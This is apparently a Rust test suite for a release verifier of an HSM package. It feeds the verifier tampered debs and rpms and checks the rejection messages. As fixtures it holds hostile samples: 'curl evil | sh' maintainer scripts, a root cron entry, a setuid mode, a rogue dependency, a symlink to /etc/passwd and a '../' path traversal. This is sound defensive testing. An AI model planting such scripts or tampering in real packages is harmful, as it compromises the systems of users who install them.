//! `craton-admin verify-release` against small synthetic releases (real debs and rpms, made
//! here): a good release passes; each tampered release — the attacker rewriting release.json and
//! SHA256SUMS to match every change — fails with a message naming the artifact and the
//! difference. tests/release/verifier.sh runs the same kinds of cases on a real release.

mod release;

use release::{Fixture, Payload, sha256};
use std::path::Path;

fn good(variant: &str) -> (Fixture, tempfile::TempDir) {
    let f = Fixture::new(variant);
    let t = tempfile::tempdir().unwrap();
    f.write(t.path(), &f.deb_payload(), &f.rpm_payload());
    (f, t)
}

/// Asserts the verifier fails on `dir` and prints every expected line.
fn rejects(f: &Fixture, dir: &Path, extra: &[&str], expect: &[&str]) {
    let (ok, out) = f.verify(dir, extra);
    assert!(!ok, "a tampered release passed:\n{out}");
    for e in expect {
        assert!(out.contains(e), "output lacks {e:?}:\n{out}");
    }
}

fn tampered(
    mutate: impl FnOnce(&Fixture, &mut Payload, &mut Payload),
) -> (Fixture, tempfile::TempDir) {
    let f = Fixture::new("default");
    let (mut deb, mut rpm) = (f.deb_payload(), f.rpm_payload());
    mutate(&f, &mut deb, &mut rpm);
    let t = tempfile::tempdir().unwrap();
    f.write(t.path(), &deb, &rpm);
    (f, t)
}

#[test]
fn good_releases_pass() {
    for variant in ["default", "fips"] {
        let (f, t) = good(variant);
        let (ok, out) = f.verify(t.path(), &[]);
        assert!(ok, "{variant}: a good release failed:\n{out}");
        assert!(out.contains("verify-release: OK"), "{out}");
        assert!(
            out.contains("holds exactly what release.json declares"),
            "{out}"
        );
        assert!(out.contains("fits the release policy"), "{out}");
        // --json for configuration-management tools.
        let (ok, out) = f.verify(t.path(), &["--json"]);
        assert!(ok);
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["ok"], true);
        assert_eq!(v["failures"], 0);
    }
}

#[test]
fn added_maintainer_script_is_rejected() {
    let (f, t) = tampered(|_, deb, _| {
        deb.scripts
            .push(("postinst".into(), "#!/bin/sh\ncurl evil | sh\n".into()));
    });
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!(
            "FAIL: {}: script postinst is not allowed",
            f.deb_name()
        )],
    );
    let (f, t) = tampered(|_, _, rpm| rpm.scripts.push(("post".into(), "curl evil | sh".into())));
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!(
            "FAIL: {}: script post is not allowed",
            f.rpm_name()
        )],
    );
}

#[test]
fn changed_maintainer_script_is_rejected() {
    // A release.json left as published (declaring the package without scripts) while the
    // package gained one: the declared/found comparison names it even before the policy.
    let (f, t) = good("default");
    let mut deb = f.deb_payload();
    deb.scripts
        .push(("preinst".into(), "#!/bin/sh\nexit 0\n".into()));
    std::fs::write(t.path().join(f.deb_name()), release::build_deb(&deb)).unwrap();
    release::write_sums(t.path());
    rejects(
        &f,
        t.path(),
        &[],
        &[
            &format!("FAIL: {}: script preinst (sha256", f.deb_name()),
            "is not declared in release.json",
            &format!(
                "FAIL: {}: SHA-256 or size does not match release.json",
                f.deb_name()
            ),
        ],
    );
}

#[test]
fn extra_file_is_rejected() {
    let (f, t) = tampered(|_, deb, rpm| {
        deb.files.push((
            "/usr/lib/x86_64-linux-gnu/pkcs11/evil.so".into(),
            0o644,
            b"x".to_vec(),
        ));
        rpm.files.push((
            "/etc/cron.d/craton".into(),
            0o644,
            b"* * * * * root sh\n".to_vec(),
        ));
    });
    rejects(
        &f,
        t.path(),
        &[],
        &[
            &format!(
                "FAIL: {}: /usr/lib/x86_64-linux-gnu/pkcs11/evil.so: file not allowed by the release policy",
                f.deb_name()
            ),
            &format!(
                "FAIL: {}: /etc/cron.d/craton: file not allowed",
                f.rpm_name()
            ),
        ],
    );
}

#[test]
fn changed_mode_is_rejected() {
    let (f, t) = tampered(|_, deb, _| deb.files[0].1 = 0o4755);
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!(
            "FAIL: {}: /usr/lib/x86_64-linux-gnu/pkcs11/libcraton_hsm.so: mode 4755, the release policy says 0644",
            f.deb_name()
        )],
    );
}

#[test]
fn changed_content_is_rejected() {
    // The packaged configuration differs from the commit's packaging/craton_hsm.toml.
    let (f, t) = tampered(|_, deb, _| {
        deb.files[3].2 = b"[algorithms]\nfips_approved_only = false\n".to_vec();
    });
    rejects(
        &f,
        t.path(),
        &[],
        &[
            &format!(
                "FAIL: {}: /etc/craton-hsm/craton_hsm.toml: sha256",
                f.deb_name()
            ),
            "differs from packaging/craton_hsm.toml at the release's commit",
        ],
    );
}

#[test]
fn extra_dependency_is_rejected() {
    let (f, t) = tampered(|_, deb, rpm| {
        deb.depends.push("evil-helper".into());
        rpm.depends.push("evil-helper".into());
    });
    rejects(
        &f,
        t.path(),
        &[],
        &[
            &format!(
                "FAIL: {}: Depends: \"evil-helper\" is not allowed",
                f.deb_name()
            ),
            &format!(
                "FAIL: {}: Requires: \"evil-helper\" is not allowed",
                f.rpm_name()
            ),
        ],
    );
}

#[test]
fn package_from_the_other_variant_is_rejected() {
    // The fips variant's deb, renamed to the default deb's file name.
    let (f, t) = good("default");
    let fips = Fixture::new("fips");
    std::fs::write(
        t.path().join(f.deb_name()),
        release::build_deb(&fips.deb_payload()),
    )
    .unwrap();
    f.reseal(t.path());
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!(
            "FAIL: {}: package name is \"craton-hsm-fips\": the default variant's is \"craton-hsm\"",
            f.deb_name()
        )],
    );
}

/// Changes release.json with `edit`, then rewrites SHA256SUMS.
fn edit_manifest(dir: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    let p = dir.join("release.json");
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
    edit(&mut v);
    std::fs::write(&p, serde_json::to_string_pretty(&v).unwrap()).unwrap();
    release::write_sums(dir);
}

#[test]
fn changed_release_json_fields_are_rejected() {
    type Edit = Box<dyn Fn(&mut serde_json::Value)>;
    let cases: Vec<(&str, Edit, &str)> = vec![
        (
            "commit",
            Box::new(|v| v["commit"] = "1111111111111111111111111111111111111111".into()),
            "FAIL: release.json: commit 1111111111111111111111111111111111111111, but the commit being verified is",
        ),
        (
            "version",
            Box::new(|v| v["version"] = "0.2.0".into()),
            "FAIL: release.json: version 0.2.0, the commit's Cargo.toml says 0.1.0",
        ),
        (
            "variant",
            Box::new(|v| v["variant"] = "fips".into()),
            "cargo_features \"default\", the fips variant is built with",
        ),
        (
            "features",
            Box::new(|v| v["cargo_features"] = "--features fault-injection".into()),
            "FAIL: release.json: cargo_features \"--features fault-injection\"",
        ),
        (
            "time",
            Box::new(|v| v["source_date_epoch"] = 1.into()),
            "FAIL: release.json: source_date_epoch 1, the commit's time is",
        ),
        (
            "unknown key",
            Box::new(|v| v["trusted"] = true.into()),
            "FAIL: release.json: not a release manifest this verifier knows: unknown field `trusted`",
        ),
        (
            "reproducible",
            Box::new(|v| v["reproducible"] = false.into()),
            "FAIL: release.json: reproducible is false",
        ),
    ];
    for (name, edit, expect) in cases {
        let (f, t) = good("default");
        edit_manifest(t.path(), edit);
        let (ok, out) = f.verify(t.path(), &[]);
        assert!(!ok, "{name}: passed:\n{out}");
        assert!(
            out.contains(expect),
            "{name}: output lacks {expect:?}:\n{out}"
        );
    }
    // --commit names the commit explicitly.
    let (f, t) = good("default");
    rejects(
        &f,
        t.path(),
        &["--commit", "2222222222222222222222222222222222222222"],
        &["but the commit being verified is 2222222222222222222222222222222222222222"],
    );
}

#[test]
fn symlinks_and_subdirectories_are_rejected() {
    let (f, t) = good("default");
    std::os::unix::fs::symlink("/etc/passwd", t.path().join("passwd")).unwrap();
    std::fs::create_dir(t.path().join("extra")).unwrap();
    rejects(
        &f,
        t.path(),
        &[],
        &[
            "FAIL: passwd: is a symlink (-> /etc/passwd)",
            "FAIL: extra: is a subdirectory",
        ],
    );
    // A symlinked package, with every checksum matching through the link.
    let (f, t) = good("default");
    let deb = t.path().join(f.deb_name());
    let real = t.path().parent().unwrap().join(format!(
        "{}-real.deb",
        sha256(t.path().to_string_lossy().as_bytes())
    ));
    std::fs::rename(&deb, &real).unwrap();
    std::os::unix::fs::symlink(&real, &deb).unwrap();
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!("FAIL: {}: is a symlink", f.deb_name())],
    );
    std::fs::remove_file(real).unwrap();
}

#[test]
fn duplicate_and_traversing_sums_are_rejected() {
    let (f, t) = good("default");
    let sums = std::fs::read_to_string(t.path().join("SHA256SUMS")).unwrap();
    let first = sums.lines().next().unwrap().to_string();
    std::fs::write(t.path().join("SHA256SUMS"), format!("{sums}{first}\n")).unwrap();
    let name = first.split_once("  ").unwrap().1;
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!(
            "FAIL: SHA256SUMS: line {}: {name} is listed twice",
            sums.lines().count() + 1
        )],
    );

    let (f, t) = good("default");
    let outside = t.path().parent().unwrap().join("outside.txt");
    std::fs::write(&outside, "x").unwrap();
    let mut sums = std::fs::read_to_string(t.path().join("SHA256SUMS")).unwrap();
    sums.push_str(&format!("{}  ../outside.txt\n", sha256(b"x")));
    std::fs::write(t.path().join("SHA256SUMS"), sums).unwrap();
    rejects(
        &f,
        t.path(),
        &[],
        &["\"../outside.txt\" is not a plain file name of the release directory"],
    );
    let _ = std::fs::remove_file(outside);
}

#[test]
fn stand_in_dll_is_rejected() {
    let (f, t) = good("default");
    let dll = vec![b'M'; 1024];
    std::fs::write(t.path().join("craton_hsm.dll"), &dll).unwrap();
    std::fs::write(t.path().join("craton_hsm.hmac"), release::hmac(&dll)).unwrap();
    f.reseal(t.path());
    rejects(
        &f,
        t.path(),
        &[],
        &[
            "FAIL: craton_hsm.dll: not a PE32+ image",
            "a stand-in, not a Windows DLL (1024 bytes)",
        ],
    );
}

#[test]
fn unlisted_and_missing_files_are_rejected() {
    let (f, t) = good("default");
    std::fs::write(t.path().join("README.txt"), "surprise").unwrap();
    std::fs::remove_file(t.path().join(f.rpm_name())).unwrap();
    rejects(
        &f,
        t.path(),
        &[],
        &[
            "FAIL: README.txt: present in the release but not listed in SHA256SUMS",
            &format!("FAIL: {}: listed in SHA256SUMS but missing", f.rpm_name()),
            &format!(
                "FAIL: {}: declared in release.json but missing",
                f.rpm_name()
            ),
        ],
    );
}

#[test]
fn fips_package_must_ship_the_approved_only_config() {
    // The fips deb with the default variant's configuration (everything commented out).
    let f = Fixture::new("fips");
    let mut deb = f.deb_payload();
    deb.files[3].2 = release::CONFIG.as_bytes().to_vec();
    let t = tempfile::tempdir().unwrap();
    f.write(t.path(), &deb, &f.rpm_payload());
    rejects(
        &f,
        t.path(),
        &[],
        &[
            &format!(
                "FAIL: {}: /etc/craton-hsm/craton_hsm.toml: sha256",
                f.deb_name()
            ),
            "differs from packaging/craton_hsm-fips.toml at the release's commit",
        ],
    );
}

#[test]
fn p11kit_registration_in_the_modules_directory_is_rejected() {
    // A package that registers the module with p11-kit for every program again.
    let (f, t) = tampered(|_, deb, _| {
        deb.files[2].0 = "/usr/share/p11-kit/modules/craton-hsm.module".into();
    });
    rejects(
        &f,
        t.path(),
        &[],
        &[&format!(
            "FAIL: {}: /usr/share/p11-kit/modules/craton-hsm.module: file not allowed by the release policy",
            f.deb_name()
        )],
    );
}
